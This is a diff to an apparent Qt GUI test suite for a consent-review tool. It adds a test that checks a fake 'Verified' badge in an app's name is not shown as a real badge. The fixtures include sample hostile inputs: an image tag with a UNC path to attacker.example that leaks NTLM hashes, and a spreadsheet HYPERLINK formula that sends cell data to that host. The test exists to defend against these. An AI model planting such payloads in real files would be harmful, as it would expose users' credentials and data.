@@ -77,6 +77,8 @@ const QString CohoAppId = QStringLiteral("600cec8d-d27b-4389-908c-e0264546ea50")
 // What a hostile publisher puts in front of every name. Rendered as rich text, the first part is a bold "✔ Verified"
 // badge and the second an image Qt loads from the path (on Windows a UNC path: an SMB connection with the NTLM hash).
 const QString Badge = QStringLiteral("<b>\u2714 Verified</b> ");
+// The same where ConsentDesk shows its own verification mark beside the name (TenantText::forNameBesideBadge).
+const QString BadgeMarked = QStringLiteral("<b>\uFFFD Verified</b> ");
 const QString Image = QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">");
 
 const QString Formula = QStringLiteral("=HYPERLINK(\"https://attacker.example/?\"&A1,\"Adatum Timesheets\")");
@@ -298,11 +300,13 @@ public:
     {
         const bool image = raw.contains(QLatin1String("share\\x.png"));
         const bool badge = raw.contains(QStringLiteral("\u2714 Verified"));
-        if (!image && !badge) {
+        const bool marked = raw.contains(QStringLiteral("\uFFFD Verified")); // beside our own badge
+        if (!image && !badge && !marked) {
             return;
         }
         ++seen;
-        if ((image && !shown.contains(QLatin1String("<img src="))) || (badge && !shown.contains(Badge.trimmed()))) {
+        if ((image && !shown.contains(QLatin1String("<img src="))) || (badge && !shown.contains(Badge.trimmed()))
+            || (marked && !shown.contains(BadgeMarked.trimmed()))) {
             problems << QStringLiteral("%1 renders the markup: %2").arg(where, raw.left(300));
         }
     }
@@ -428,6 +432,7 @@ private slots:
     void mailboxAccessAndTheWizard();
     void activityOfTheBlock();
     void checkMarkInAPublisherNameIsNoBadge();
+    void checkMarkInAnAppNameIsNoBadge();
     void overviewAndConsentSettings();
     void snapshotDiff();
     void everyViewOnceMore();
@@ -628,13 +633,13 @@ void TestHostileTenantGui::appsAndTheirDialogs()
             northwind = name;
         }
     }
-    QVERIFY(northwind.startsWith(Badge));
+    QVERIFY2(northwind.startsWith(BadgeMarked), qPrintable(northwind)); // beside the publisher's: no ✔ of its own
     view->selectApp(NorthwindAppId);
     QTRY_VERIFY_WITH_TIMEOUT(view->detail()->hasInventory()
                                  && view->detail()->inventory().app.appId.compare(NorthwindAppId, Qt::CaseInsensitive)
                                         == 0,
                              30000);
-    QCOMPARE(TenantText::forDisplay(view->detail()->inventory().app.displayName), northwind);
+    QCOMPARE(TenantText::forNameBesideBadge(view->detail()->inventory().app.displayName), northwind);
     scan("Apps view", 5);
     if (auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("appTabs"))) {
         for (int i = 0; i < tabs->count(); ++i) {
@@ -940,6 +945,107 @@ void TestHostileTenantGui::checkMarkInAPublisherNameIsNoBadge()
              qPrintable(appSubtitle->text()));
     GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-publisher-app.png"));
     scan("a check mark in a publisher's name");
+}
+
+// The same for an app's name: it stands beside the publisher and ConsentDesk's ✔ (the lists, the request's and the
+// app's heading, the Overview's lists that say "(unverified)"). Every hostile app name starts with "<b>✔ Verified</b>":
+// its ✔ is shown as U+FFFD there, so the only ✔ in sight is ConsentDesk's own, after a verified publisher's name.
+void TestHostileTenantGui::checkMarkInAnAppNameIsNoBadge()
+{
+    const auto noBadge = [](const QString& where, const QString& name) {
+        return name.contains(BadgeMarked.trimmed()) && checkMarks(name) == 0
+                   ? QString()
+                   : QStringLiteral("%1 shows a check mark of the app's: %2").arg(where, name.left(200));
+    };
+    QStringList problems;
+    int names = 0;
+
+    m_window->showView(QStringLiteral("requests"));
+    RequestsView* requests = m_controller->requestsView();
+    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
+    QVERIFY(table);
+    QTRY_VERIFY_WITH_TIMEOUT(table->model()->rowCount() > 0, 30000);
+    int tailspinRow = -1;
+    for (int row = 0; row < table->model()->rowCount(); ++row) {
+        const QString app = table->model()->index(row, RequestTableModel::App).data().toString();
+        if (app.contains(QLatin1String("Verified</b>"))) {
+            ++names;
+            problems << noBadge(QStringLiteral("request list"), app);
+        }
+        if (app.endsWith(QLatin1String("Tailspin Projects"))) {
+            tailspinRow = row; // its publisher is verified: ConsentDesk's ✔ is in the same row
+            QVERIFY(checkMarks(table->model()->index(row, RequestTableModel::Publisher).data().toString()) == 1);
+        }
+    }
+    QVERIFY(tailspinRow >= 0);
+    const QModelIndex tailspin = table->model()->index(tailspinRow, RequestTableModel::App);
+    QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, table->visualRect(tailspin).center());
+    QTRY_VERIFY_WITH_TIMEOUT(
+        requests->detail()->hasReview()
+            && requests->detail()->review().request.appId.compare(TailspinAppId, Qt::CaseInsensitive) == 0,
+        30000);
+    auto* requestTitle = requests->detail()->findChild<QLabel*>(QStringLiteral("requestTitle"));
+    QVERIFY(requestTitle);
+    ++names;
+    problems << noBadge(QStringLiteral("request pane title"), requestTitle->text());
+
+    m_window->showView(QStringLiteral("apps"));
+    AppsView* apps = m_controller->appsView();
+    QTRY_VERIFY_WITH_TIMEOUT(!apps->isLoading() && apps->model()->rowCount() > 0, 30000);
+    for (int row = 0; row < apps->model()->rowCount(); ++row) {
+        const QString app = apps->model()->index(row, AppListModel::App).data().toString();
+        if (app.contains(QLatin1String("Verified</b>"))) {
+            ++names;
+            problems << noBadge(QStringLiteral("Apps list"), app);
+        }
+    }
+    apps->selectApp(NorthwindAppId);
+    QTRY_VERIFY_WITH_TIMEOUT(apps->detail()->hasInventory()
+                                 && apps->detail()->inventory().app.appId.compare(NorthwindAppId, Qt::CaseInsensitive)
+                                        == 0,
+                             30000);
+    auto* appTitle = apps->detail()->findChild<QLabel*>(QStringLiteral("appTitle"));
+    QVERIFY(appTitle);
+    ++names;
+    problems << noBadge(QStringLiteral("app page title"), appTitle->text());
+
+    // The Overview's lists of apps (the user-consent one says "(unverified)" after a publisher's name; the others are
+    // beside it).
+    m_window->showView(QStringLiteral("overview"));
+    int listed = 0;
+    QVERIFY(waitUntil(
+        [&] {
+            listed = 0;
+            for (const char* name : {"overviewTenantWideList", "overviewUserConsentList", "overviewMailboxList"}) {
+                if (auto* list = m_window->findChild<QTreeWidget*>(QString::fromLatin1(name))) {
+                    listed += list->topLevelItemCount();
+                }
+            }
+            return listed > 0;
+        },
+        30000));
+    int overviewNames = 0;
+    for (const char* name : {"overviewTenantWideList", "overviewUserConsentList", "overviewMailboxList"}) {
+        auto* list = m_window->findChild<QTreeWidget*>(QString::fromLatin1(name));
+        QVERIFY(list);
+        for (int i = 0; i < list->topLevelItemCount(); ++i) {
+            const QTreeWidgetItem* item = list->topLevelItem(i);
+            for (int column : {0, 1}) { // the app and its publisher
+                if (item->text(column).contains(QLatin1String("Verified</b>"))) {
+                    ++overviewNames;
+                    const QString where = QStringLiteral("%1 [%2,%3]").arg(QLatin1String(name)).arg(i).arg(column);
+                    problems << noBadge(where, item->text(column));
+                    problems << noBadge(where + QStringLiteral(" tooltip"),
+                                        MarkupScan::rendered(item->toolTip(column), Qt::AutoText));
+                }
+            }
+        }
+    }
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-check-mark-app-overview.png"));
+    problems.removeAll(QString());
+    QVERIFY2(problems.isEmpty(), qPrintable(problems.join(QLatin1Char('\n'))));
+    QVERIFY2(names >= 6, qPrintable(QString::number(names))); // both lists and both headings at least
+    QVERIFY(overviewNames > 0);
 }
 
 // The Overview (top apps, the apps to look at) and Consent settings (the workflow's reviewers: hostile users and
